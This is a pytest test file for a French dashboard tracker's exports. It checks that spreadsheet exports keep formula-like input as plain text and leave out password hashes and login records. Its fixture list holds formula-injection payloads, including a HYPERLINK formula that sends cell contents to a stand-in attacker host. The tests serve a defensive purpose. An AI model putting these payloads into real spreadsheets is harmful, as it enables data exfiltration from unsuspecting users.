"""Exports carry no secret and no formula: password hashes, login attempts and the
tracker's secret stay in backups only, and a typed ``=HYPERLINK(…)`` is text in
every workbook (the export's, and the quarterly pack's)."""

from __future__ import annotations

import duckdb
import pytest
from openpyxl import load_workbook

from dashboard.tracker import auth, export, pack, users, work
from dashboard.tracker.pack import xlsx as pack_xlsx
from tests.conftest import ADMIN

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"cliquez")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def crafted(db):
    users.add_user(
        db,
        ADMIN,
        login="chef",
        display_name="Chef",
        role="administrateur",
        password="x" * 14,
        provisional=False,
    )
    with pytest.raises(auth.LoginRefused):
        auth.login(db, "chef", "mauvais mot de passe", client="203.0.113.9")
    for index, text in enumerate(FORMULAS):
        work.create_action(
            db, ADMIN, orientation_id=1, title=f"Action {index}", lead=text.replace("\r", "")
        )
    work.create_action(db, ADMIN, orientation_id=1, title=FORMULAS[0], lead="=1+1")
    return db


def test_the_workbook_export_keeps_formulas_as_text(crafted, tmp_path):
    path = export.to_xlsx(crafted, tmp_path / "export.xlsx")
    sheet = load_workbook(path)["Actions"]
    header = [c.value for c in sheet[1]]
    title, lead = header.index("Intitulé") + 1, header.index("Responsable") + 1
    found = {}
    for row in sheet.iter_rows(min_row=2):
        for cell in (row[title - 1], row[lead - 1]):
            found[cell.value] = cell.data_type
    assert found[FORMULAS[0]] == "s" and found["=1+1"] == "s"
    assert all(kind == "s" for value, kind in found.items() if isinstance(value, str))


def test_no_export_holds_a_secret(crafted, tmp_path):
    workbook = load_workbook(export.to_xlsx(crafted, tmp_path / "export.xlsx"))
    readme = [c.value for row in workbook["Lisez-moi"].iter_rows() for c in row]
    assert "login_attempt" not in readme and "app_meta" not in readme
    assert "user_session" not in readme and "password_hash" not in readme
    accounts = workbook["Comptes"]
    assert "Mot de passe" not in [c.value for c in accounts[1]]
    dump = "".join(str(c.value) for sheet in workbook for row in sheet.iter_rows() for c in row)
    assert "$2b$" not in dump

    written = export.to_parquet(crafted, tmp_path / "parquet")
    names = {p.stem for p in written}
    assert "login_attempt" not in names and "app_meta" not in names
    columns = duckdb.sql(f"select * from '{tmp_path / 'parquet' / 'app_user.parquet'}'").columns
    assert "password_hash" not in columns and "login" in columns

    assert "$2b$" not in export.to_json(crafted)


def test_the_pack_workbook_keeps_formulas_as_text(crafted, tmp_path):
    content = pack.build(crafted, "2026-T4")
    path = tmp_path / "pack.xlsx"
    path.write_bytes(pack_xlsx.workbook_bytes(content))
    sheet = load_workbook(path)["Éléments"]
    kinds = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row if c.value}
    assert kinds[FORMULAS[0]] == "s" and kinds["=1+1"] == "s"


def test_the_workbook_export_is_in_french(db, tmp_path):
    from dashboard.tracker import export_labels
    from dashboard.tracker.backup import schema_tables

    with db.reader() as cur:
        tables = export.exported_tables(cur)
        columns = {c for t in tables for c, _ in schema_tables(cur)[t]}
    assert set(tables) <= set(export_labels.SHEETS)  # every table has a French name
    assert columns - {"password_hash"} <= set(export_labels.COLUMNS)  # every column too
    workbook = load_workbook(export.to_xlsx(db, tmp_path / "export.xlsx"))
    assert workbook.sheetnames[0] == "Lisez-moi"
    assert {"Actes", "Lignes budgétaires", "Changements de statut"} <= set(workbook.sheetnames)
    acts = workbook["Actes"]
    header = [c.value for c in acts[1]]
    assert "Intitulé" in header and "title" not in header
    kinds = {row[header.index("Nature")].value for row in acts.iter_rows(min_row=2)}
    assert "avenant" in kinds and "amendment" not in kinds  # codes written as words
    lines = workbook["Lignes budgétaires"]
    bases = {
        row[[c.value for c in lines[1]].index("Base")].value for row in lines.iter_rows(min_row=2)
    }
    assert bases <= {"HT", "TTC", "non précisé"}
